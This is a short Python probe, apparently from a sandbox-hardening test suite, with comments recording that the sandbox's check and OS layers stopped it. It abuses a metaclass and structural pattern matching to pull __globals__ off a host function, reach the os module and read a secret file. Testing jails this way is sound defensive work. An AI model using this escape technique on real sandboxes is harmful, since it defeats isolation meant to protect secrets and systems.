# Tries: positional patterns are allowed on int, str, ...; rebind the name `int` to a
#   class whose metaclass says yes to isinstance, so `case int(found)` reads
#   __match_args__ ("__globals__") off setLEDs after all.
# Check layer: rejected (the program rebinds "int", which a case int(...) relies on).
# Sandbox layer: the probe holds os ("reached os:"); the secret is not in the jail -> failed.
def grab(subject):
    match subject:
        case int(found):
            return found


try:
    kinds = [type(1)]
    T = type(kinds[0])
except Exception:  # a runtime guard on type() may refuse it; the OS layer must hold without one
    T = ().__class__.__class__
Meta = T("Meta", (T,), {"__instancecheck__": lambda cls, obj: True})
int = Meta("Grab", (), {"__match_args__": ("__globals__",)})
os = grab(setLEDs)["_os"]
print("reached os:", os, sorted(os.listdir("/")))
fd = os.open("@@SECRET_PATH@@", os.O_RDONLY)
print("ESCAPED" + ":", os.read(fd, 200))
